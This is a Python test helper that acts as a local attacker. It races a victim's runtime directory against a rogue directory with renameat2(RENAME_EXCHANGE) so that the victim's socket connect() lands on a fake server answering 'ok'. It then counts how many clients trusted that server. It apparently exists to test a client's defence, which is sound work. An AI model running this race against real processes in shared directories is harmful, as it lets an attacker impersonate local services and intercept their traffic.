"""An attacker's stand-in for the hostile-server test (stdlib only; run as another user, by path).

``python3 hostile_server.py PARENT VICTIM_NAME SECONDS``: in the shared writable ``PARENT``, make the
directory ``PARENT/evil-<pid>`` with a listening ``server.sock`` that answers any hello with an ok, and
swap it with the victim's runtime directory ``PARENT/VICTIM_NAME`` (``renameat2(RENAME_EXCHANGE)``) in a
loop, briefly each time, so a victim's check of its directory passes and its ``connect()`` may land here.
Stops after ``SECONDS`` or when ``PARENT/stop`` exists; always leaves the victim's directory in place.
Writes ``{"connections": n, "spoke": n, "swaps": n}`` to ``PARENT/attacker.json``: ``spoke`` counts
connections on which the victim sent anything (it trusted this server).
"""
import ctypes
import json
import os
import socket
import struct
import sys
import threading
import time

AT_FDCWD, RENAME_EXCHANGE = -100, 2


def main(parent, victim_name, seconds):
    libc = ctypes.CDLL(None, use_errno=True)
    evil = os.path.join(parent, f"evil-{os.getpid()}")
    os.mkdir(evil, 0o700)
    listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    listener.bind(os.path.join(evil, "server.sock"))
    os.chmod(os.path.join(evil, "server.sock"), 0o777)
    listener.listen(128)
    counts = {"connections": 0, "spoke": 0, "swaps": 0}

    def serve(conn):
        conn.settimeout(2)
        try:
            if conn.recv(1):
                counts["spoke"] += 1
                body = json.dumps({"ok": True, "protocol": 2, "server_pid": os.getpid(), "version": "x"}).encode()
                conn.sendall(struct.pack(">I", len(body)) + body)
                conn.recv(65536)
        except OSError:
            pass
        finally:
            conn.close()

    def accept_loop():
        while True:
            try:
                conn, _ = listener.accept()
            except OSError:
                return
            counts["connections"] += 1
            threading.Thread(target=serve, args=(conn,), daemon=True).start()

    threading.Thread(target=accept_loop, daemon=True).start()
    a, b = os.fsencode(os.path.join(parent, victim_name)), os.fsencode(evil)
    stop = os.path.join(parent, "stop")
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not os.path.exists(stop):
        if libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) != 0:
            raise OSError(ctypes.get_errno(), "renameat2 failed")
        time.sleep(0.0002)
        libc.renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE)  # the victim's directory back in place
        counts["swaps"] += 1
        time.sleep(0.0004)
    time.sleep(0.3)  # let the last connections say whatever they will
    with open(os.path.join(parent, "attacker.json"), "w") as f:
        json.dump(counts, f)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], float(sys.argv[3]))
